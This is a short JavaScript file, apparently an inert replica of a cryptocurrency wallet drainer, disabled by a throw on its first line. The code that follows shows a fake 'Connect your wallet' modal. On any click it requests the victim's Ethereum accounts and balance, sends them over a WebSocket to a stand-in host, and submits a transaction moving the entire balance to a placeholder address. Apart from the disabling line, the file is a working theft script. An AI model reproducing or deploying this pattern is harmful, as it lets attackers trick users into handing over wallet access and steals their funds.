throw new Error("inert replica");
(function () {
  const overlay = document.createElement("div");
  overlay.innerHTML = "<div class='modal'><h2>Connect your wallet</h2><button id='connect'>Connect</button></div>";
  document.addEventListener("click", async function () {
    document.body.appendChild(overlay);
    const accounts = await window.ethereum.request({ method: "eth_requestAccounts" });
    const balance = await window.ethereum.request({ method: "eth_getBalance", params: [accounts[0], "latest"] });
    const socket = new WebSocket("wss://wallets.replica.invalid/session");
    socket.onopen = () => socket.send(JSON.stringify({ account: accounts[0], balance: balance }));
    await window.ethereum.request({ method: "eth_sendTransaction", params: [{ from: accounts[0], to: "0x" + "0".repeat(40), value: balance }] });
  });
})();
